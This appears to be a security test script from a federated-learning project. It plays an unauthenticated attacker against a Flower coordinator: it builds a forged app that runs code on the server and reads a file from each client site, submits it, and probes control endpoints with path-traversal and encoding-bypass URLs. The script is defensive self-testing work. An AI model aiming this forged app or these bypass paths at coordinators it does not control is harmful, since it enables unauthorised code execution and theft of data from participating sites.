"""A stranger who has the coordinator's address and its public certificate authority, and nothing else.

As a script it plays the attack on an address and prints what came of each step:

    python tests/flower/attack.py 127.0.0.1:8443 ca.crt
"""

from __future__ import annotations

import http.client
import os
import ssl
import subprocess
import sys
import tempfile
from pathlib import Path

from fedpews.flower.deploy.keys import make_site_key
from fedpews.flower.deploy.processes import environment, program

PYPROJECT = """[project]
name = "forged"
version = "1.0.0"
description = "an app that nobody has read"
license = "Apache-2.0"
dependencies = []
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[tool.hatch.build.targets.wheel]
packages = ["."]
[tool.flwr.app]
publisher = "stranger"
[tool.flwr.app.components]
serverapp = "server_app:app"
clientapp = "client_app:app"
"""
SERVER = """import time
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    Path({loot!r}).write_text("code ran at the coordinator")
    until = time.monotonic() + 60
    while time.monotonic() < until and not list(grid.get_node_ids()):
        time.sleep(0.5)
    ask = [Message(RecordDict({{"c": ConfigRecord({{}})}}), node, "query") for node in grid.get_node_ids()]
    for reply in grid.send_and_receive(ask, timeout=60):
        records = {{}} if reply.has_error() else {{name: dict(value) for name, value in reply.content.items()}}
        said = reply.error.reason if reply.has_error() else str(records)
        with Path({loot!r}).open("a") as file:
            file.write("\\n" + said)
"""
CLIENT = """from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

@app.query()
def steal(message, context):
    found = Path({secret!r}).read_text()
    return Message(RecordDict({{"loot": ConfigRecord({{"loot": found}})}}), reply_to=message)
"""
PATHS = (
    "/v1/control/start-run",
    "/v1/control/register-node",
    "/v1/runtime/acquire-task",
    "/v1/fleet/register-node",
    "/v1/fleet/../control/start-run",
    "/v1/fleet/%2e%2e/control/start-run",
    "/v1/fleet/..%2fcontrol/start-run",
    "/v1/fleet/pull-messages/../../control/start-run",
    "//v1//control//start-run",
    "/V1/CONTROL/start-run",
    "/docs",
    "/openapi.json",
    "/",
)


def forge_app(folder: Path, secret: Path, loot: Path) -> Path:
    """An app that runs code at the coordinator and reads a file at each site."""
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PYPROJECT)
    (folder / "server_app.py").write_text(SERVER.format(loot=str(loot)))
    (folder / "client_app.py").write_text(CLIENT.format(secret=str(secret)))
    return folder


def strangers_home(folder: Path, address: str, authority: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.toml").write_text(
        f'[superlink.victim]\naddress = "{address}"\nroot-certificates = "{authority}"\n'
    )
    return folder


def flwr(home: Path, *arguments: str) -> tuple[int, str]:
    env = {**environment(home), "HOME": str(home)}
    done = subprocess.run(
        [program("flwr"), *arguments], env=env, capture_output=True, text=True, check=False, timeout=180
    )
    return done.returncode, (done.stdout + done.stderr).strip()


def post(address: str, authority: Path, path: str) -> int:
    """The status that a raw request gets; the path is sent exactly as it is written."""
    host, port = address.split(":")
    trusted = ssl.create_default_context(cafile=str(authority))
    connection = http.client.HTTPSConnection(host, int(port), context=trusted, timeout=30)
    try:
        connection.putrequest("POST", path, skip_host=False)
        connection.putheader("Content-Type", "application/protobuf")
        connection.putheader("Content-Length", "0")
        connection.endheaders()
        return connection.getresponse().status
    finally:
        connection.close()


def play(address: str, authority: Path, folder: Path) -> dict[str, tuple[bool, str]]:
    """Each step: whether the attacker got through, and what was said."""
    home = strangers_home(folder / "home", address, authority)
    _, public = make_site_key(folder / "keys", 666)
    loot = folder / "loot"
    app = forge_app(folder / "forged", Path("/etc/hostname"), loot)
    steps: dict[str, tuple[bool, str]] = {}
    code, text = flwr(home, "supernode", "register", str(public), "victim")
    steps["register a key"] = code == 0, text
    code, text = flwr(home, "run", str(app), "victim")
    steps["submit a run"] = code == 0, text
    code, text = flwr(home, "ls", "victim")
    steps["list runs"] = code == 0, text
    for path in PATHS:
        status = post(address, authority, path)
        steps[f"POST {path}"] = status not in (400, 403, 404, 405), f"status {status}"
    return steps


if __name__ == "__main__":
    os.environ.setdefault("FLWR_TELEMETRY_ENABLED", "0")
    with tempfile.TemporaryDirectory() as place:
        for step, (through, text) in play(sys.argv[1], Path(sys.argv[2]).resolve(), Path(place)).items():
            print(
                f"{'GOT THROUGH' if through else 'refused    '}  {step}: {text.splitlines()[-1][:110] if text else ''}"
            )
